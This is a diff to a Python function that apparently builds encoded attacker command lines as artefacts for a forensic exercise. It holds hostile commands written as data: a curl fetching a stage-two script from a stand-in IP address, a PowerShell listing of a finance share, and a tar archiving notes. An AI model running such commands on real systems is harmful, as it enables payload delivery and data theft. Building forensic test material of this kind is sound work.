@@ -505,7 +505,7 @@ def _acquisition_hashes(usb: dict[str, bytes]) -> str:
 # --- encoded command lines recovered from web1 and the portal -------------------------------------------------------
 def _encoded_commands() -> str:
     powershell = "Get-ChildItem \\\\FILE01\\Finance -Recurse | Out-File C:\\Users\\Public\\list.txt"
-    shell = "curl -s http://203.0.113.99/stage2.sh -o /tmp/s2.sh"
+    shell = "curl -s http://203.0.113.99/stage2.sh -o /tmp/stage2.sh"  # 52 bytes: base64 needs padding
     url_safe = "tar czf /tmp/x.tgz ~/notes?.txt >> /tmp/done"
     rows = [
         ("ps_encoded", "powershell.exe -NoProfile -EncodedCommand "
